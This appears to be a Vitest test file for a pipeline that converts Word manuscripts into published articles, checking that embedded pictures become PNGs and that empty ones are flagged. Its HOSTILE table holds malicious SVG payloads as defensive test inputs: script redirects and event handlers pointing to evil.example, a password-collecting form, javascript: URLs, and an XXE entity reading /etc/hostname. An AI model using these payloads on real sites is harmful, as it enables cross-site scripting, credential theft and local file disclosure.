import { describe, expect, it } from 'vitest';
import { runArticle } from '../../../functions/documents/process/run-article.ts';
import { readPublicationMeta } from '../../../functions/forms/publication-meta.ts';
import { sampleMeta } from '../../forms/sample-meta.ts';
import { PNG, picture } from '../word/build-docx.ts';
import { docx, sand } from './make-paper.ts';

const time = { cpuSeconds: 60, wallSeconds: 60 };
const BAR = '<rect x="100" y="50" width="200" height="100" fill="#c00"/>';
const svg = (inside: string, attributes = '', before = '') =>
  `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="200" viewBox="0 0 400 200" ${attributes}>${inside}${BAR}</svg>`;
/** One pixel of red, green, blue and alpha, all 0. */
const CLEAR_TIFF = `49492a000c000000${'00'.repeat(4)}0900${[
  [256, 1],
  [257, 1],
  [258, 8],
  [259, 1],
  [262, 2],
  [273, 8],
  [277, 4],
  [278, 1],
  [279, 4],
]
  .map(([tag, value]) => {
    const entry = Buffer.alloc(12);
    entry.writeUInt16LE(tag!);
    entry.writeUInt16LE(4, 2);
    entry.writeUInt32LE(1, 4);
    entry.writeUInt32LE(value!, 8);
    return entry.toString('hex');
  })
  .join('')}00000000`;
const EVIL = 'https://evil.example/x';

/** Shown 432 points wide. */
async function makeWith(content: string) {
  const others = [{ name: 'a.svg', type: 'image', id: 'rIdP', content }];
  const shown = `<w:p><w:r>${picture('rIdP', 432 * 12_700, 216 * 12_700)}</w:r></w:p>`;
  return make(docx(sand + shown + sand, { others }));
}

async function make(file: Uint8Array) {
  const request = {
    docx: file,
    fileName: 'paper.docx',
    meta: readPublicationMeta({ ...sampleMeta, statements: {} }),
    isFinal: true,
  };
  const outcome = await runArticle({ name: 'article', request, pictures: time });
  if (outcome.state === 'failed') throw new Error(outcome.refusal.reason);
  return outcome;
}

const HOSTILE: Record<string, string> = {
  'a script': svg('<script>location = "https://evil.example"</script>'),
  'a script from elsewhere': svg(`<script xlink:href="${EVIL}.js"/>`),
  'deeds of its events': svg('', `onload="alert(1)" onclick="location='${EVIL}'"`),
  'a page with a form': svg(
    `<foreignObject width="400" height="200"><form xmlns="http://www.w3.org/1999/xhtml" action="${EVIL}"><input name="password"/></form></foreignObject>`,
  ),
  'a redirect': svg(
    `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${EVIL}"/>`,
  ),
  'links and pictures of elsewhere': svg(
    `<a href="${EVIL}"><text y="20">Here</text></a><image href="${EVIL}.png" width="40" height="40"/>`,
  ),
  'parts of other files': svg(`<use href="${EVIL}.svg#a"/><use xlink:href="file:///etc/hostname#a"/>`),
  'an address in its paint': svg(
    `<rect width="9" height="9" fill="url(${EVIL}#p)" filter="url(${EVIL}#f)"/>`,
  ),
  'styles from elsewhere': svg(`<style>@import "${EVIL}.css"; rect { background: url(${EVIL}) }</style>`),
  'an animation that leads elsewhere': svg(
    '<a id="a"><set attributeName="href" to="javascript:alert(1)"/><animate attributeName="href" values="javascript:alert(1)"/></a>',
  ),
  'an instruction for a style': svg('', '', `<?xml-stylesheet href="${EVIL}.css"?>`),
  entities: svg(
    '<text y="20">&e;</text>',
    '',
    `<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/hostname"><!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>`,
  ),
};

const empty = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"></svg>';
const cropped = (xml: string) => xml.replace('<pic:blipFill>', '<pic:blipFill><a:srcRect l="50000"/>');

it.each([
  ['a drawing of nothing', 'a.svg', empty, (xml: string) => xml],
  ['a cropped drawing of nothing', 'a.svg', empty, cropped],
  ['a cropped picture that can’t be decoded', 'a.png', Buffer.from(PNG).subarray(0, 40), cropped],
  ['a transparent TIFF', 'a.tif', Buffer.from(CLEAR_TIFF, 'hex'), (xml: string) => xml],
])(
  'tells of a picture that shows nothing, and names no file that is not there: %s',
  async (_, name, content, change) => {
    const others = [{ name, type: 'image', id: 'rIdP', content }];
    const shown = (text: string) => change(`<w:p><w:r>${picture('rIdP')}</w:r>${text}</w:p>`);
    const body = sand + shown('') + sand + shown('<w:r><w:t>Beside words.</w:t></w:r>');
    const { fragment, jats, checks, figures } = await make(docx(body, { others }));
    expect(figures).toEqual([]);
    expect(fragment).not.toContain('<img');
    expect(jats).not.toContain('graphic');
    expect(checks.find(({ id }) => id === 'picture-missing')).toMatchObject({ ok: false, count: 2 });
  },
);

describe('a vector picture of an author', () => {
  it.each(Object.entries(HOSTILE))(
    'that holds %s is published as dots, and nothing of its markup is',
    async (_, content) => {
      const { figures, fragment, jats, text } = await makeWith(content);
      for (const { name, type, bytes } of figures) {
        expect([name, type]).toEqual(['picture-1.png', 'image/png']);
        expect(Buffer.from(bytes).toString('latin1', 1, 4)).toBe('PNG');
      }
      for (const form of [fragment, jats, text])
        expect(form).not.toMatch(/evil\.example\/x|javascript:|<script|foreignObject|\.svg/);
    },
  );

  it('keeps its margins, is sharp at the width at which it is printed, and stays a vector in the PDF', async () => {
    const { figures, pdf, checks } = await makeWith(svg(''));
    expect(figures).toHaveLength(1);
    const png = Buffer.from(figures[0]!.bytes);
    const [width, height] = [png.readUInt32BE(16), png.readUInt32BE(20)];
    expect(width).toBeGreaterThanOrEqual((432 / 72) * 300);
    expect(width / height).toBeCloseTo(2, 2);
    expect(checks.filter(({ ok }) => !ok).map(({ id }) => id)).not.toContain('picture-resolution');
    expect(Buffer.from(pdf).includes('/Subtype/Image') || Buffer.from(pdf).includes('/Subtype /Image')).toBe(
      false,
    );
  });
});
